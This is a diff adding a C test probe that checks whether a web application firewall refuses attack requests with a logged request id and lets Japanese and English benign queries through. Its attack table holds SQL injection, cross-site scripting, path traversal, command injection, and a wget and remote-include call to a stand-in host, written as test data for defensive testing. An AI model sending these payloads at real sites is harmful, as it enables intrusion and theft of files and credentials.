@@ -1,0 +1,142 @@
+/* GATE-02. Attacks of each kind and place must be refused with a request id that the record
+ * explains; benign requests, Japanese ones first, must pass. Only refused requests could do harm, so
+ * nothing here reaches the application but the benign ones. */
+#include "evidence/probe.h"
+
+#include "base/file.h"
+#include "base/json.h"
+
+#include <fcntl.h>
+#include <unistd.h>
+
+enum { RECORD_TAIL = 4 << 20, RECORD_TRIES = 20, RECORD_WAIT_US = 50000 };
+
+struct trial {
+    const char *what, *method, *target, *header, *body;
+};
+
+#define FORM "Content-Type: application/x-www-form-urlencoded\r\n"
+#define JSON "Content-Type: application/json\r\n"
+#define PART "Content-Type: multipart/form-data; boundary=sekisho\r\n"
+
+static const struct trial attacks[] = {
+    { "SQL injection, query", "GET", "/?q=1%27%20OR%20%271%27=%271%27%20--%20-", "", "" },
+    { "SQL injection (UNION), query", "GET", "/?id=1%20UNION%20SELECT%20user,password%20FROM%20users",
+      "", "" },
+    { "SQL injection, form", "POST", "/", FORM, "name=a&q=%27%3B+DROP+TABLE+orders%3B--" },
+    { "SQL injection, JSON", "POST", "/", JSON, "{\"q\":\"1' OR 1=1 -- -\"}" },
+    { "SQL injection, cookie", "GET", "/", "Cookie: cart=1' UNION SELECT 1,2,3 -- -\r\n", "" },
+    { "SQL injection, multipart", "POST", "/", PART,
+      "--sekisho\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"
+      "1' UNION ALL SELECT NULL,version() -- -\r\n--sekisho--\r\n" },
+    { "cross-site scripting, query", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "" },
+    { "cross-site scripting (event), form", "POST", "/", FORM, "q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E" },
+    { "cross-site scripting, Referer", "GET", "/",
+      "Referer: https://a.example/?<script>alert(document.cookie)</script>\r\n", "" },
+    { "file inclusion", "GET", "/?page=../../../../etc/passwd", "", "" },
+    { "file inclusion, encoded", "GET", "/?page=..%252f..%252f..%252fetc%252fpasswd", "", "" },
+    { "remote file inclusion", "GET", "/?inc=http://192.0.2.1/shell.txt?", "", "" },
+    { "command injection", "GET", "/?host=127.0.0.1;cat%20/etc/passwd", "", "" },
+    { "command injection (substitution), form", "POST", "/", FORM, "name=$(wget+http://192.0.2.1/x+-O-)" },
+    { "PHP injection", "GET", "/?x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E", "", "" },
+    { "Java deserialisation and class access", "POST", "/", FORM,
+      "x=java.lang.Runtime.getRuntime().exec" },
+    { "session fixation", "GET", "/?x=%3Cscript%3Edocument.cookie%3D%22PHPSESSID%3D1%22", "", "" },
+    { "scanner", "GET", "/", "User-Agent: sqlmap/1.7\r\n", "" },
+    { "response splitting", "GET", "/?x=a%0d%0aSet-Cookie:%20a=b%0d%0aContent-Length:%200", "", "" },
+    { "path traversal in the path", "GET", "/s/..%2f..%2f..%2fetc/passwd", "", "" },
+};
+
+static const struct trial benign[] = {
+    { "front page", "GET", "/", "", "" },
+    { "Japanese search words", "GET", "/?q=%E6%8A%B9%E8%8C%B6%20%E5%92%8C%E8%8F%93%E5%AD%90", "", "" },
+    { "a place name", "GET", "/?q=%E9%B9%BF%E6%B2%BC%E5%B8%82%E5%BE%A1%E6%88%90%E6%A9%8B", "", "" },
+    { "a name and its reading", "GET",
+      "/?q=%E9%BD%8B%E8%97%A4%20%E7%B4%94%E4%B8%80%EF%BC%88%E3%82%B5%E3%82%A4%E3%83%88%E3%82%A6%EF%BC%89",
+      "", "" },
+    { "an address", "GET",
+      "/?q=%E5%A4%A7%E9%98%AA%E5%BA%9C%E5%A4%A7%E9%98%AA%E5%B8%82%E5%8C%97%E5%8C%BA1-2-3", "", "" },
+    { "a company", "GET", "/?q=%E6%A0%AA%E5%BC%8F%E4%BC%9A%E7%A4%BE%E6%98%8E%E7%B4%B0", "", "" },
+    { "an English phrase with an apostrophe", "GET", "/?q=Mother's%20Day%20gift", "", "" },
+};
+
+static sk_str
+record_tail(sk_arena *mem, const char *path)
+{
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return (sk_str){ 0 };
+    off_t size = lseek(fd, 0, SEEK_END), from = size > RECORD_TAIL ? size - RECORD_TAIL : 0;
+    char *p = sk_alloc(mem, (size_t)(size - from) + 1);
+    ssize_t n = pread(fd, p, (size_t)(size - from), from);
+    close(fd);
+    return (sk_str){ p, n > 0 ? (size_t)n : 0 };
+}
+
+/* Whether the line of this event names at least one rule. */
+static bool
+line_names_rule(sk_str line, sk_str id)
+{
+    DEFER(sk_json_close) sk_json *root = NULL;
+    if (sk_failed(sk_json_read(&root, line))) return false;
+    return sk_str_eq(sk_json_get_str(root, "id"), id) &&
+           sk_json_count(sk_json_get(root, "matches")) > 0;
+}
+
+static bool
+record_explains(const struct evidence_instance *instance, sk_str id)
+{
+    for (int i = 0; i < RECORD_TRIES; i++, usleep(RECORD_WAIT_US)) {
+        DEFER(sk_arena_close) sk_arena *mem = sk_arena_new(0);
+        sk_str path = sk_str_printf(mem, "%.*s/log/gate-audit.json", SK_ARG(instance->state));
+        sk_str line, rest = record_tail(mem, path.p);
+        while (sk_str_cut(&line, &rest, '\n'))
+            if (sk_str_find(line, id) != SIZE_MAX && line_names_rule(line, id)) return true;
+    }
+    return false;
+}
+
+static sk_err
+ask_trial(struct evidence_answer *answer, struct evidence_report *report,
+          const struct evidence_instance *instance, const struct trial *trial)
+{
+    sk_str host = evidence_host(instance);
+    sk_str request = evidence_request(report->mem, trial->method, sk_str_of(trial->target), host,
+                                      trial->header, sk_str_of(trial->body));
+    return evidence_ask(answer, report->mem, instance, host, request);
+}
+
+static sk_err
+try_attack(struct evidence_report *report, const struct evidence_instance *instance,
+           const struct trial *trial)
+{
+    struct evidence_answer answer;
+    TRY(ask_trial(&answer, report, instance, trial));
+    sk_str id = evidence_answer_header(&answer, "X-Request-Id");
+    if (answer.status != 403)
+        evidence_failed(report, "%s: answered %d instead of 403", trial->what, answer.status);
+    else if (!id.n)
+        evidence_failed(report, "%s: refused, but without a request id", trial->what);
+    else if (!record_explains(instance, id))
+        evidence_failed(report, "%s: refused, but the record does not explain %.*s", trial->what,
+                        SK_ARG(id));
+    else
+        evidence_saw(report, "%s refused: %.*s", trial->what, SK_ARG(id));
+    return sk_ok();
+}
+
+sk_err
+evidence_probe_waf(struct evidence_report *report, const struct evidence_instance *instance)
+{
+    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
+        TRY(try_attack(report, instance, &attacks[i]));
+    for (size_t i = 0; i < sizeof benign / sizeof *benign; i++) {
+        struct evidence_answer answer;
+        TRY(ask_trial(&answer, report, instance, &benign[i]));
+        if (answer.status == 0 || answer.status == 403 || answer.status >= 500)
+            evidence_failed(report, "%s: a benign request was answered %d", benign[i].what,
+                            answer.status);
+        else
+            evidence_saw(report, "%s passes (%d)", benign[i].what, answer.status);
+    }
+    return sk_ok();
+}
